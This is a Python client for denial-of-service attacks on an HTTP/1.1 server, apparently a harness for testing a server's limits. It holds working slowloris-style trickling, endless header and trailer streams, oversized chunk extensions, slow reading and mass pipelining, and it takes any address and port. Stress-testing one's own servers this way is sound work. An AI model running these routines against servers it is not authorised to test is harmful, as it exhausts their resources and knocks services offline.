"""A client that attacks a server of HTTP/1.1 with one connection, or with many.

hostile_http1_client.py ADDRESS PORT ATTACK

ATTACK is the name of a function below. What is endless goes on until the server ends it. Prints what was answered: 'status N COUNT', and 'cut COUNT'
for answers that were not whole.
"""

import collections
import socket
import sys
import threading
import time

address, port, attack = sys.argv[1:]
MANY = 60


def connect():
    connection = socket.create_connection((address, int(port)), timeout=30)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def answers(connections):
    """What each HTTP/1.1 connection was answered, and whether that was whole."""
    found = collections.Counter()
    for connection in connections:
        data = bytearray()
        try:
            while piece := connection.recv(1 << 20):
                data += piece
        except OSError:
            pass
        top, _, _ = data.partition(b"\r\n\r\n")
        whole = b"transfer-encoding: chunked" not in top.lower() or data.endswith(b"\r\n0\r\n\r\n")
        found["status " + top.split()[1].decode() if whole and top else "cut"] += 1
    print(", ".join(f"{what} {count}" for what, count in sorted(found.items())), flush=True)


def endless(beginning, piece):
    connection = connect()
    connection.sendall(beginning)
    connection.settimeout(0)
    for _ in range(100_000):
        try:
            connection.recv(1, socket.MSG_PEEK)
            break
        except BlockingIOError:
            pass
        connection.settimeout(30)
        connection.sendall(piece)
        connection.settimeout(0)
    connection.settimeout(30)
    answers([connection])


def endless_line():
    endless(b"GET /", b"x" * 1000)


def endless_field():
    endless(b"GET / HTTP/1.1\r\nHost: server\r\nX: ", b"x" * 1000)


def endless_fields():
    endless(b"GET / HTTP/1.1\r\nHost: server\r\n", b"X: y\r\n")


def empty_lines():
    endless(b"", b"\r\n")


def chunk_extensions():
    endless(b"POST /digest HTTP/1.1\r\nHost: server\r\nTransfer-Encoding: chunked\r\n\r\n", b"1;" + b"x" * 200 + b"\r\na\r\n")


def endless_trailers():
    endless(b"POST /digest HTTP/1.1\r\nHost: server\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", b"X: y\r\n")


def trickle(beginning, piece, count):
    """Bytes that come one after the other and never to an end, on many connections."""
    connections = [connect() for _ in range(count)]
    for connection in connections:
        connection.sendall(beginning)
    left = set(connections)
    while left:
        for connection in list(left):
            try:
                connection.setblocking(False)
                connection.recv(1, socket.MSG_PEEK)
                left.discard(connection)
            except BlockingIOError:
                connection.send(piece)
            except OSError:
                left.discard(connection)
            connection.settimeout(30)
        time.sleep(0.05)
    answers(connections)


def slow_head():
    trickle(b"GET / HTTP/1.1\r\nHost: server\r\nX: ", b"y", 10 * MANY)


def slow_body():
    trickle(b"POST /digest HTTP/1.1\r\nHost: server\r\nContent-Length: 1000000\r\n\r\n", b"y", MANY)


def slow_reader():
    """Asks for much, and reads nothing until it is told to by a line on standard input."""
    connections = [connect() for _ in range(MANY)]
    for connection in connections:
        connection.sendall(b"GET /source?30000000 HTTP/1.1\r\nHost: server\r\n\r\n")
    print("asked", flush=True)
    sys.stdin.readline()
    answers(connections)


def pipeline():
    """Requests by the thousand before the first answer is read."""
    connection = connect()
    count = 10_000
    sender = threading.Thread(target=lambda: connection.sendall(b"GET / HTTP/1.1\r\nHost: server\r\n\r\n" * count))
    sender.start()
    sender.join(1)
    line, data, found = b"HTTP/1.1 200 OK\r\n", b"", 0
    while found < count and (piece := connection.recv(1 << 20)):
        data += piece
        found += data.count(line)
        data = data[1 - len(line):]
    print(f"status 200 {found}")


globals()[attack]()
